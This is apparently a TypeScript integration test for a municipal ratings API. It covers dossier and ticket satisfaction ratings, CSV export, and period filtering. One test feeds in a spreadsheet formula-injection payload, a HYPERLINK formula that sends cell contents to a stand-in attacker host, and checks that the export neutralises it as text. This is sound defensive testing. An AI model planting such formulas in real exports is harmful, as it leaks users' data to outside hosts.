/**
 * GET /api/v1/ratings: the commune's one satisfaction report — dossiers' ratings and the village
 * teams' tickets', each saying what it rates, the share satisfied over all and per subject, and
 * the CSV with the ticket columns after the dossier ones. A ticket is rated through the citizen's
 * buttons, as in the chat.
 */
import axios from 'axios';
import { createHarness, userId, type Harness } from '../helpers';
import type { RunningApp } from '../../src/roles/app';
import { DossierFollows } from '../../src/domain/dossiers/dossier-follows';
import { TicketStore } from '../../src/domain/tickets/ticket-store';
import { hashId } from '../../src/logger';

describe('the satisfaction report: dossiers and tickets', () => {
  let h: Harness;
  let app: RunningApp;
  let api: string;
  const admin = { headers: { authorization: 'Bearer test-admin-token' }, validateStatus: () => true };

  beforeAll(async () => {
    h = await createHarness('ratings-api', {
      env: { OFFICE_HOURS: 'Mon-Sun 00:00-24:00', TICKET_TAKE_MINUTES: '600', TICKET_ANSWER_HOURS: '100' },
    });
    app = await h.start({ web: true, worker: true });
    api = `http://127.0.0.1:${app.port}/api/v1`;
  });
  afterAll(() => h.close());

  /** A closed ticket of a citizen who chatted lately (so the bot can answer their buttons). */
  async function closedTicket(village: string) {
    const citizen = userId();
    h.fake.recordInteraction(citizen);
    const store = new TicketStore(app.redis, app.keys);
    const ticket = await store.create({ citizenId: citizen, village, question: 'Cài VNeID thế nào?', photos: [] });
    await store.transition(ticket.id, { from: ['open'], to: 'closed', set: { closedAt: new Date().toISOString(), closedBy: 'team' } });
    return { citizen, id: ticket.id };
  }
  const press = async (user: string, payload: string, pattern: RegExp) => expect((await h.exchange(user, payload)).text).toMatch(pattern);
  const report = async () => (await axios.get(`${api}/ratings`, admin)).data;

  it('lists ticket ratings next to dossier ratings; a re-rating replaces, a reopened ticket drops out', async () => {
    const code = '000.00.20.H47-261127-0001';
    const follower = userId();
    const follows = new DossierFollows(app.redis, app.keys);
    await follows.grant(follower, code);
    await follows.follow(follower, code);
    await follows.rate(follower, { code, procedureCode: '1.001193', level: 'dissatisfied' });

    const { citizen, id } = await closedTicket('Phương Nghệ');
    await press(citizen, `#q:tk:r:${id}:dissatisfied`, /Cảm ơn bạn đã đánh giá/);
    await press(citizen, `#q:tk:r:${id}:very_satisfied`, /Cảm ơn bạn đã đánh giá/);

    let data = await report();
    expect(data.ratings).toEqual([
      expect.objectContaining({ subject: 'dossier', code, procedureCode: '1.001193', level: 'dissatisfied' }),
      { subject: 'ticket', ticketId: id, village: 'Phương Nghệ', level: 'very_satisfied', at: expect.any(String), rater: hashId(citizen) },
    ]);
    expect(data).toMatchObject({
      count: 2,
      satisfiedShare: 0.5,
      bySubject: { dossier: { count: 1, satisfiedShare: 0 }, ticket: { count: 1, satisfiedShare: 1 } },
    });

    const csv = (await axios.get(`${api}/ratings?format=csv`, admin)).data as string;
    const lines = csv
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(lines[0]).toBe('code,procedureCode,level,reason,at,rater,subject,ticketId,village');
    expect(lines).toHaveLength(3);
    expect(lines.find((l) => l.includes('"dossier"'))).toMatch(new RegExp(`^"${code}","1.001193","dissatisfied",`));
    expect(lines.find((l) => l.includes('"ticket"'))).toMatch(
      new RegExp(`^"","","very_satisfied","",".+","${hashId(citizen)}","ticket","${id}","Phương Nghệ"$`),
    );

    // Reopened: the ticket's rating no longer stands; rated again after closing, it counts once.
    await press(citizen, `#q:tk:o:${id}`, new RegExp(`Đã mở lại câu hỏi ${id}`));
    data = await report();
    expect(data.ratings.map((r: { subject: string }) => r.subject)).toEqual(['dossier']);
    expect(data.bySubject.ticket).toEqual({ count: 0, satisfiedShare: null });
    await new TicketStore(app.redis, app.keys).transition(id, { from: ['open'], to: 'closed', set: { closedBy: 'team' } });
    await press(citizen, `#q:tk:r:${id}:satisfied`, /Cảm ơn bạn đã đánh giá/);
    data = await report();
    expect(data.ratings.filter((r: { subject: string }) => r.subject === 'ticket')).toEqual([
      expect.objectContaining({ ticketId: id, level: 'satisfied' }),
    ]);
    expect(data.satisfiedShare).toBe(0.5);
  });

  it('a typed reason that looks like a formula is exported as text, never as a live formula', async () => {
    const follows = new DossierFollows(app.redis, app.keys);
    const reasons = [
      '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
      '+84 905',
      '-1+2',
      '@SUM(A1:A9)',
      '\tchờ lâu',
      '\rchờ lâu',
      'chờ lâu = mất công',
    ];
    for (const [i, reason] of reasons.entries()) {
      const code = `000.00.20.H47-261127-09${String(i).padStart(2, '0')}`;
      const citizen = userId();
      await follows.grant(citizen, code);
      await follows.follow(citizen, code);
      await follows.rate(citizen, { code, procedureCode: '1.001193', level: 'dissatisfied' });
      await follows.addReason(citizen, code, reason);
    }
    const csv = (await axios.get(`${api}/ratings?format=csv`, admin)).data as string;
    const reasonOf = (i: number) =>
      new RegExp(`^"000\\.00\\.20\\.H47-261127-09${String(i).padStart(2, '0')}","1\\.001193","dissatisfied","([^]*?)",`, 'm').exec(
        csv,
      )?.[1];
    expect(reasonOf(0)).toBe(`'=HYPERLINK(""http://evil.example/?""&A1,""Xem"")`);
    expect(reasonOf(1)).toBe("'+84 905");
    expect(reasonOf(2)).toBe("'-1+2");
    expect(reasonOf(3)).toBe("'@SUM(A1:A9)");
    expect(reasonOf(4)).toBe("'\tchờ lâu");
    expect(reasonOf(5)).toBe("'\rchờ lâu");
    expect(reasonOf(6)).toBe('chờ lâu = mất công');
  });

  it('the period bounds ticket ratings as it does dossier ratings; bad input 400, no token 401', async () => {
    const { citizen, id } = await closedTicket('Đồng Tràm Tây');
    await press(citizen, `#q:tk:r:${id}:satisfied`, /Cảm ơn bạn đã đánh giá/);
    const past = (await axios.get(`${api}/ratings?from=2020-01-01&to=2020-01-31`, admin)).data;
    expect(past).toMatchObject({ count: 0, satisfiedShare: null, ratings: [] });
    const now = (await report()).ratings.map((r: { ticketId?: string }) => r.ticketId);
    expect(now).toContain(id);
    expect((await axios.get(`${api}/ratings?from=yesterday`, admin)).status).toBe(400);
    expect((await axios.get(`${api}/ratings`, { validateStatus: () => true })).status).toBe(401);
  });
});
